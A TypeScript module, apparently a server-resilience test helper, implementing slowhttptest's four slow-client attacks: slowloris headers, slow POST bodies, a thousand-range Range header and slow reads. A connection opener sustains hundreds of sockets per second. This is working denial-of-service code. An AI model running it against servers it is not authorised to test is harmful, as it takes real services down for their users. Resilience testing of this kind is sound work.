import { connect, type Socket } from 'node:net';

/** A slow-client attack: `initial` is sent on connect, `repeated` at intervals afterwards. */
export interface SlowAttack {
  readonly initial: string;
  readonly repeated: string;
  /** Reads the response a few bytes at a time. */
  readonly readsSlowly?: boolean;
}

/**
 * The four attacks of slowhttptest (-H, -B, -R, -X).
 *
 * @param large path of a large file.
 */
export function slowAttacks(host: string, large: string): Readonly<Record<string, SlowAttack>> {
  const ranges = Array.from({ length: 1_000 }, (_, n) => `5-${n}`).join(',');
  return {
    'slow headers': { initial: `GET / HTTP/1.1\r\nHost: ${host}\r\n`, repeated: 'X-A: b\r\n' },
    'slow bodies': {
      initial: `POST /api/auth/login HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 8192\r\n\r\n{`,
      repeated: ' ',
    },
    'a thousand ranges': {
      initial: `GET ${large} HTTP/1.1\r\nHost: ${host}\r\nRange: bytes=0-,${ranges}\r\n\r\n`,
      repeated: '',
      readsSlowly: true,
    },
    'slow readers': {
      initial: `GET ${large} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      repeated: '',
      readsSlowly: true,
    },
  };
}

export interface SlowConnections {
  end(): void;
}

const BATCH_CONNECTIONS = 20;
const BATCH_INTERVAL_MS = 50;
const REPEAT_INTERVAL_MS = 1_000;
const SLOW_READ_BYTES = 32;

/** Opens slow connections from one address, 400 per second, and continues the attack until `end()` is called. */
export function openSlowConnections(
  address: string,
  { initial: first, repeated: again, readsSlowly = false }: SlowAttack,
  { connections, from }: { connections: number; from: string },
): SlowConnections {
  const { port, hostname: host } = new URL(address);
  const sockets = new Set<Socket>();
  let opened = 0;
  const opening = setInterval(() => {
    for (let n = 0; n < BATCH_CONNECTIONS && opened < connections; n += 1, opened += 1) {
      const socket = connect({ port: Number(port), host, localAddress: from });
      sockets.add(socket);
      socket.on('error', () => undefined).on('close', () => sockets.delete(socket));
      if (!readsSlowly) socket.resume();
      socket.write(first);
    }
  }, BATCH_INTERVAL_MS);
  const repeating = setInterval(() => {
    for (const socket of sockets) {
      if (again) socket.write(again);
      if (readsSlowly) socket.read(SLOW_READ_BYTES);
    }
  }, REPEAT_INTERVAL_MS);
  return {
    end() {
      clearInterval(opening);
      clearInterval(repeating);
      for (const socket of sockets) socket.destroy();
    },
  };
}

/** Seconds until the server ends a connection on which only `text` was sent. */
export function secondsUntilEnded(address: string, text: string, timeoutMs: number): Promise<number> {
  const { port, hostname: host } = new URL(address);
  const startedAt = performance.now();
  return new Promise((resolve) => {
    const socket = connect({ port: Number(port), host, localAddress: '127.0.0.3' });
    const timer = setTimeout(() => socket.destroy(), timeoutMs);
    socket.on('error', () => undefined).resume();
    socket.on('close', () => {
      clearTimeout(timer);
      resolve((performance.now() - startedAt) / 1000);
    });
    socket.write(text);
  });
}
